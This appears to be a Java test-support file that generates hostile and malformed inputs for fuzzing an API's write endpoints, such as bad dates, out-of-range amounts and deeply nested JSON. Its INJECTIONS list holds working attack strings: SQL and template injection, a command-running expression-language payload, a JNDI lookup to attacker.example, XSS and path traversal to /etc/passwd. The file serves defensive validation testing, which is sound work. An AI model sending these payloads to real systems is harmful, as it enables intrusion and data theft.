package io.pipewright.api;

import java.math.BigDecimal;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.util.RawValue;

/**
 * Values an attacker, a broken script or a confused integrator sends: injection strings,
 * unicode edge cases, wrong JSON types, numbers out of range. Each generator here is
 * refused where {@link WriteEndpoints} uses it, by construction; a {@link RawValue} is
 * JSON text sent as it stands (1e400, NaN, a thousand nested arrays).
 */
final class HostileValues {

	static final List<String> INJECTIONS = List.of("'; drop table pw_lead; --", "\" or 1=1 --", "' OR ''='", "admin'--",
			"1; select pg_sleep(10)", "${7*7}", "#{7*7}", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{7*7}}",
			"<%= 7*7 %>", "${jndi:ldap://attacker.example/a}", "<script>alert(1)</script>",
			"\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "../../../etc/passwd", "..\\..\\windows",
			"%s%s%s%n", "*)(uid=*", "{\"$gt\": \"\"}", "${execution.setVariable('x', 1)}");

	/**
	 * NUL, halves of surrogate pairs, a right-to-left override, zero-width joiners,
	 * emoji, a byte order mark, non-characters, controls, combining marks.
	 */
	static final List<String> UNICODE = List.of("a\u0000b", "\u0000", "\ud800", "x\udc00y", "tail\ud83d",
			"\u202eSA ztuF\u202c", "a\u200db", "\u200b", "\ufeffBOM",
			"\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "\ud83d\udca5", "\uffff", "\ufffe", "Ω≈ç√∫", "ｆｕｌｌ",
			"\u0085next", "line\u2028sep", "\u001b[31mred", "tab\there", "cr\rlf\n", "\u007f",
			"Z\u0351\u0368\u0364\u0334a\u0337l\u0338g\u0335o");

	/**
	 * Characters no text field takes: controls (but tab and line breaks) and halves of a
	 * surrogate pair.
	 */
	static final List<String> FORBIDDEN_IN_TEXT = List.of("\u0000", "\u0001", "\u0008", "\u000b", "\u001b", "\u007f",
			"\u0085", "\u009f", "\ud800", "\udbff", "\udc00", "\udfff");

	/** Characters a one-line field (a name, an owner) takes no more than the above. */
	static final List<String> FORBIDDEN_ON_ONE_LINE = List.of("\t", "\n", "\r");

	private HostileValues() {
	}

	/** Injection strings, unicode edge cases, or anything at all. */
	static Gen<String> hostileText() {
		return Gen.frequency(3, Gen.of(INJECTIONS), 3, Gen.of(UNICODE), 2,
				Gen.strings(Gen.chars('\u0000', '\uffff'), 1, 30), 1, Gen.strings(alphanumeric(), 1, 20));
	}

	/**
	 * Hostile text that a field checked against a set of names refuses (users,
	 * pipelines).
	 */
	static Gen<String> notOneOf(Set<String> known) {
		Set<String> lower = known.stream().map(k -> k.toLowerCase(Locale.ROOT)).collect(Collectors.toSet());
		// as the server reads them: stripped (names), trimmed (Jackson's enums), any case
		return hostileText().filter(s -> !s.isBlank() && !lower.contains(s.strip().toLowerCase(Locale.ROOT))
				&& !lower.contains(s.trim().toLowerCase(Locale.ROOT)));
	}

	/** Hostile text that is no email address: it has no {@code @}. */
	static Gen<String> notAnEmail() {
		return hostileText().filter(s -> !s.isBlank() && s.indexOf('@') < 0);
	}

	/**
	 * Text longer than a field takes: just over, far over, or over any JSON string the
	 * server reads (100,000 characters); never with blanks at its ends, which are cut.
	 */
	static Gen<String> longerThan(int max) {
		Gen<Integer> lengths = Gen.frequency(4, Gen.ints(max + 1, max + 50), 2, Gen.ints(max + 1, 10 * max), 1,
				Gen.ints(100_001, 120_000));
		Gen<String> units = Gen.of("x", "é", "\ud83d\udca5", "';--", "${7*7}");
		return lengths.with(units, (length, unit) -> {
			String text = unit.repeat(length / unit.length() + 1).substring(0, length);
			// cut between the halves of a pair: keep the text whole
			return Character.isHighSurrogate(text.charAt(length - 1)) ? text.substring(0, length - 1) + "x" : text;
		});
	}

	/** Ordinary text with a character no field takes in the middle of it. */
	static Gen<String> withForbiddenCharacter(boolean oneLine) {
		Gen<String> bad = Gen
			.of(oneLine ? Stream.concat(FORBIDDEN_IN_TEXT.stream(), FORBIDDEN_ON_ONE_LINE.stream()).toList()
					: FORBIDDEN_IN_TEXT);
		Gen<String> around = Gen.strings(alphanumeric(), 0, 8);
		return around.with(bad, (before, c) -> "Fuzz " + before + c).with(around, (text, after) -> text + "x" + after);
	}

	/** JSON values that are not a string. */
	static Gen<Object> notAString() {
		return Gen.oneOf(numbers(), booleans(), containers());
	}

	/** JSON values that are not a number: text (even "100"), booleans, containers. */
	static Gen<Object> notANumber() {
		return Gen.oneOf(Gen.of("100", "1e3", "NaN", "Infinity", "-0", "", "lots", "0x10", "1,5"), hostileText(),
				booleans(), containers());
	}

	/** JSON values that are not true or false: text, numbers, containers. */
	static Gen<Object> notABoolean() {
		return Gen.oneOf(Gen.of("true", "false", "yes", "1", "", "TRUE"), numbers(), containers());
	}

	/**
	 * Amounts no lead may carry: negative, too many digits, beyond any double, no number
	 * at all.
	 */
	static Gen<Object> badAmounts() {
		return Gen.oneOf(
				Gen.of(-1, -0.01, raw("-1e400"), raw("1e400"), raw("1E+19"), raw("100000000000000000"), raw("0.001"),
						raw("1.999"), raw("-9223372036854775809"), raw("1e-400"), raw("9".repeat(2000)), raw("NaN"),
						raw("-Infinity"), raw("+1"), raw("01"), raw(".5"), raw("1."), raw("0x10")),
				Gen.ints(1, Integer.MAX_VALUE).map(cents -> BigDecimal.valueOf(-cents, 2)),
				Gen.ints(18, 60).map(digits -> new BigDecimal("9".repeat(digits))));
	}

	/** Dates no lead may carry, in any of the wrong shapes. */
	static Gen<Object> badDates() {
		return Gen.oneOf(Gen.of("soon", "next friday", "2030-13-01", "2030-02-30", "2030-1-1", "30.01.2030",
				"2030-01-01T00:00:00Z", "+999999999-12-31", "-999999999-01-01", "+10000-01-01", "0000-01-01",
				"1899-12-31", "-0001-01-01", "", " ", "${7*7}"), numbers(), booleans(), containers());
	}

	static Gen<Object> numbers() {
		// 0 to 3 as well: Jackson would read them as a currency's place in the list
		return Gen.oneOf(Gen.ints(0, 3), Gen.ints(Integer.MIN_VALUE, Integer.MAX_VALUE), Gen.longs().map(l -> l / 1e3),
				Gen.of(raw("1e400"), raw("-0"), raw("9".repeat(1200))));
	}

	static Gen<Object> booleans() {
		return Gen.of(true, false);
	}

	/** Objects, arrays, and nestings deeper than any parser should follow. */
	static Gen<Object> containers() {
		return Gen.oneOf(
				Gen.of(Map.of(), Map.of("value", 1), List.of(), List.of("x"), List.of(2030, 1, 1), List.of(Map.of())),
				Gen.ints(2, 5000).map(HostileValues::nested));
	}

	/** {@code depth} nested arrays, or objects, around a number. */
	static RawValue nested(int depth) {
		if (depth % 2 == 0) {
			return raw("[".repeat(depth) + "1" + "]".repeat(depth));
		}
		return raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
	}

	/**
	 * Text refused where it stands: no text, too long, or with a character it cannot
	 * take.
	 */
	static Gen<Object> refusedText(int max, boolean oneLine) {
		return Gen.oneOf(notAString(), longerThan(max), withForbiddenCharacter(oneLine));
	}

	static Gen<Character> alphanumeric() {
		return Gen.of("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789".chars()
			.mapToObj(c -> (char) c)
			.toList());
	}

	static RawValue raw(String json) {
		return new RawValue(json);
	}

}
